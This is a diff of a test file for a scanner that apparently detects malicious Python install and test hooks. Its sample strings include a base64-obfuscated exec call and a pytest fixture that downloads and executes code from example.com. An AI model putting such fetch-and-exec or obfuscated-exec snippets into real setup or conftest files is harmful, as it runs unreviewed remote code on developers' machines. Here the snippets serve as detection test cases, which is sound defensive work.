@@ -64,6 +64,13 @@ describe('install-hook', () => {
       assert.deepEqual(found(file, code), ['remote-exec error'], file);
   });
 
+  it('leaves hidden code that others do not install to its own rule', () => {
+    const code = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))';
+    assert.deepEqual(found('setup.py', code), ['install-hook error']);
+    for (const file of ['conftest.py', 'sitecustomize.py'])
+      assert.deepEqual(found(file, code), ['obfuscated-exec error']);
+  });
+
   it('tells of a fixture that fetches', () => {
     const code =
       'import pytest, requests\n\n@pytest.fixture\ndef plugin():\n    exec(requests.get("https://example.com/x.py").text)';
